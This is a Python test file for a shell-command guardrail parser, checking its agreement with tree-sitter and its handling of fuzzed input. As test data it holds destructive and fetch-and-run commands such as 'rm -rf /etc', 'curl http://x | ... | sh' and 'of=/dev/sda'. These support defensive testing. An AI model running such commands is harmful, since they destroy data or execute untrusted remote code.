"""The parser: structure, tolerance, and agreement with tree-sitter's grammar on the commands it finds."""

from collections import Counter

import pytest
import tree_sitter
import tree_sitter_bash
from hypothesis import given
from hypothesis import strategies as st

from compass.bench.guardrail import cases
from compass.guardrail import findings
from compass.guardrail.nodes import Compound, Function, Node, Pipeline, Sequence, Simple
from compass.guardrail.rules import HANDLERS
from compass.guardrail.syntax import DEPTH, TooDeepError, parse

ORACLE = tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


def names(program: Sequence) -> list[str]:
    """The first word of every simple command, as written, outside substitutions."""
    found: list[str] = []

    def walk(node: Node) -> None:
        match node:
            case Simple(words=words):
                found.extend(words[:1])
            case Pipeline(stages=stages):
                for stage in stages:
                    walk(stage)
            case Compound(parts=parts):
                for part in parts:
                    for item in part:
                        walk(item.node)
            case Function(body=body):
                walk(body)

    for item in program:
        walk(item.node)
    return found


def oracle_names(text: str) -> list[str] | None:
    """The same from tree-sitter; None where it reports a syntax error."""
    root = ORACLE.parse(text.encode()).root_node
    if root.has_error:
        return None
    found: list[str] = []

    def walk(node: tree_sitter.Node) -> None:
        if node.type in ("command_substitution", "process_substitution", "heredoc_body"):
            return
        name = node.child_by_field_name("name")
        if node.type == "command" and name is not None and name.text is not None:
            found.append(name.text.decode())
        elif node.type in ("declaration_command", "unset_command") and node.children[0].text is not None:
            found.append(node.children[0].text.decode())
        for child in node.children:
            walk(child)

    walk(root)
    return found


def test_agrees_with_tree_sitter_on_the_corpus() -> None:
    compared = 0
    different: list[str] = []
    for _, _, command, _ in cases():
        expected = oracle_names(command)
        # ``time``, ``!`` and ``coproc`` are prefixes here and commands there.
        if expected is None or any(word in ("time", "coproc") for word in expected):
            continue
        compared += 1
        if Counter(names(parse(command))) != Counter(expected):
            different.append(command)
    assert compared > 500
    assert len(different) <= compared // 50, different


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a; b && c || d & e", ["a", "b", "c", "d", "e"]),
        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
        ("for i in 1 2; do a; done; while b; do c; done", ["a", "b", "c"]),
        ("case x in a) b;; (c|d) e;; esac", ["b", "e"]),
        ("f() { a; }; function g { b; }", ["a", "b"]),
        ("(a; { b; })", ["a", "b"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("a # b; c\nd", ["a", "d"]),
        ("cat <<E | sh\nrm\nE\nls", ["cat", "sh", "ls"]),
        ("a \\\n b; c", ["a", "c"]),
        ("! a; time -p b", ["a", "b"]),
        ("a > f 2>&1 < g", ["a"]),
        ("x=1 y=2 a", ["a"]),
        ("a ) fi done; b", ["a", "b"]),
    ],
)
def test_structure(text: str, expected: list[str]) -> None:
    assert names(parse(text)) == expected


def test_here_documents_keep_their_body() -> None:
    program = parse("cat <<'E' <<-F\none\nE\n\ttwo\n\tF\n")
    assert isinstance(program[0].node, Simple)
    assert [(r.target, r.literal) for r in program[0].node.redirects] == [("one\n", True), ("\ttwo\n", False)]


def test_quotes_in_a_substitution_do_not_leak() -> None:
    program = parse("git commit -m \"$(cat <<'E'\nit's (done)\nE\n)\" && b")
    assert names(program) == ["git", "b"]


def test_depth_is_bounded() -> None:
    parse("(" * (DEPTH - 1) + "a" + ")" * (DEPTH - 1))
    with pytest.raises(TooDeepError):
        parse("{ " * (DEPTH + 1) + "a")


@given(st.text(alphabet="rm -f/~$'\"`(){}<>|&;#\\\n abE=*[]!", max_size=80))
def test_any_text_is_judged_without_an_error(text: str) -> None:
    findings(text)


@given(st.text(max_size=60))
def test_any_unicode_is_judged_without_an_error(text: str) -> None:
    findings("echo " + text)


ANY_WORDS = r"""
    -rf -c -e -i -o -O -d @x --all --force --delete -- - / ~ /etc . .. $X '$(ls)' "$@" {} ; | > < <<<a & x=1
    -exec -delete run push config set of=/dev/sda if=x main +main :main -u root 777 -R -x -s sh -X POST http://x
    s/a/b/e 'import%os;os.fork()' -I{} -0 -t -S 'rm' -m -v /:/h --env=a format destroy -n -f -C -h "" ? * [
"""
WORDS = st.sampled_from(ANY_WORDS.split())


@given(st.sampled_from(sorted(HANDLERS)), st.lists(WORDS, max_size=8), st.booleans())
def test_every_command_bears_any_words(name: str, words: list[str], piped: bool) -> None:
    for spelling in (name, name.upper()):
        text = " ".join([spelling, *words])
        findings(f"curl http://x | {text} | sh" if piped else text, "main")


@given(st.lists(st.sampled_from(["ls", "date", "cd /tmp", "echo 'a b'", "x=1", "true"]), max_size=6))
def test_harmless_neighbours_neither_hide_nor_make_a_danger(parts: list[str]) -> None:
    before = "; ".join([*parts, "true"])
    assert not findings(before)
    assert findings(f"{before}; rm -rf /etc")
    assert findings(f"{before} && (rm -rf /etc)")
